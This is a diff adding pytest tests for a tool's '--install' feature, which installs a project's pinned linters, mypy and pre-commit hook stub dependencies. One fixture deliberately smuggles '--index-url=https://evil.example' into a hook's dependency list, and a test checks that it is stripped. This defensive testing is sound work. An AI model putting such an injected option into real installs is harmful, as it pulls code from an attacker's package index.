@@ -1,0 +1,116 @@
+"""`--install` installs the linters and type checkers a project pins at the versions it pins,
+with what its pre-commit hooks add to them (type stubs, plugins): a lint finding must come
+from the tool the maintainers run, not from whatever release is newest today."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from assay.install import install_steps
+from tests.repos import write_dedented
+
+PIP = (".venv/bin/python", "-m", "pip", "install", "-q")
+
+PROJECT = {
+    "pyproject.toml": """
+        [project]
+        name = "pinned"
+        version = "0.1"
+        [tool.mypy]
+        files = ["pinned.py"]
+        [tool.pytest.ini_options]
+        pythonpath = ["."]
+    """,
+    # requests is not a dependency: only its stubs, which the mypy hook adds, let mypy pass.
+    "pinned.py": """
+        from typing import TYPE_CHECKING
+
+        if TYPE_CHECKING:
+            import requests
+
+
+        def status(response: "requests.Response") -> int:
+            return response.status_code
+
+
+        def double(x: int) -> int:
+            return 2 * x
+    """,
+    "tests/test_pinned.py": """
+        from pinned import double
+
+
+        def test_double():
+            assert double(2) == 4
+    """,
+    "tox.ini": """
+        [testenv]
+        deps = pytest
+        commands = pytest
+        [testenv:lint]
+        deps = -r requirements/lint.txt
+        commands = flake8 pinned.py tests
+    """,
+    "requirements/lint.txt": "flake8==6.0.0\n",
+    ".pre-commit-config.yaml": """
+        repos:
+          - repo: https://github.com/pre-commit/mirrors-mypy
+            rev: v1.10.0
+            hooks:
+              - id: mypy
+                additional_dependencies: ["types-requests==2.31.0.20240406", "--index-url=https://evil.example"]
+    """,
+}
+
+
+def test_requirement_files_for_linting_and_typing_in_requirements_dir_are_installed(
+    tmp_path: Path,
+) -> None:
+    write_dedented(
+        tmp_path,
+        {
+            "setup.py": "from setuptools import setup\nsetup()\n",
+            "requirements/lint.txt": "flake8==6.0.0\n",
+            "requirements/typing.txt": "mypy==1.10.0\n",
+            "requirements/style.txt": "black==24.1.0\n",
+            "requirements/docs.txt": "sphinx\n",
+        },
+    )
+    argvs = [s.argv for s in install_steps(tmp_path)]
+    for name in ("lint", "typing", "style"):
+        assert (*PIP, "-r", f"requirements/{name}.txt") in argvs, argvs
+    assert (*PIP, "-r", "requirements/docs.txt") not in argvs
+
+
+def test_a_pre_commit_hooks_additional_dependencies_come_with_its_tool(tmp_path: Path) -> None:
+    write_dedented(tmp_path, PROJECT)
+    tools = next(s for s in install_steps(tmp_path) if s.name == "install-python-tools")
+    assert "mypy==1.10.0" in tools.argv and "types-requests==2.31.0.20240406" in tools.argv
+    assert not any("evil" in a for a in tools.argv)
+
+
+@pytest.mark.slow
+def test_the_pinned_tools_are_the_ones_that_run(tmp_path: Path) -> None:
+    """For real: pip from the index, then the checks in the sandbox. Without the hook's
+    stubs the pinned mypy fails on `import requests` (stubs not installed); the version
+    is the one mypy reported when probed."""
+    repo = write_dedented(tmp_path / "repo", PROJECT)
+    done = subprocess.run(
+        [sys.executable, "-m", "assay", "verify", "--install", "--json", str(repo)],
+        capture_output=True,
+        text=True,
+        timeout=900,
+        check=False,
+        env={**os.environ, "ASSAY_CACHE_DIR": str(tmp_path / "cache")},
+    )
+    assert "Traceback" not in done.stderr, done.stderr
+    report = json.loads(done.stdout)
+    versions = {c["checker"]["tool"]: c["checker"]["version"] for c in report["checks"]}
+    assert report["status"] == "VERIFIED", (report["note"], report["output"])
+    assert versions.get("mypy") == "1.10.0", versions
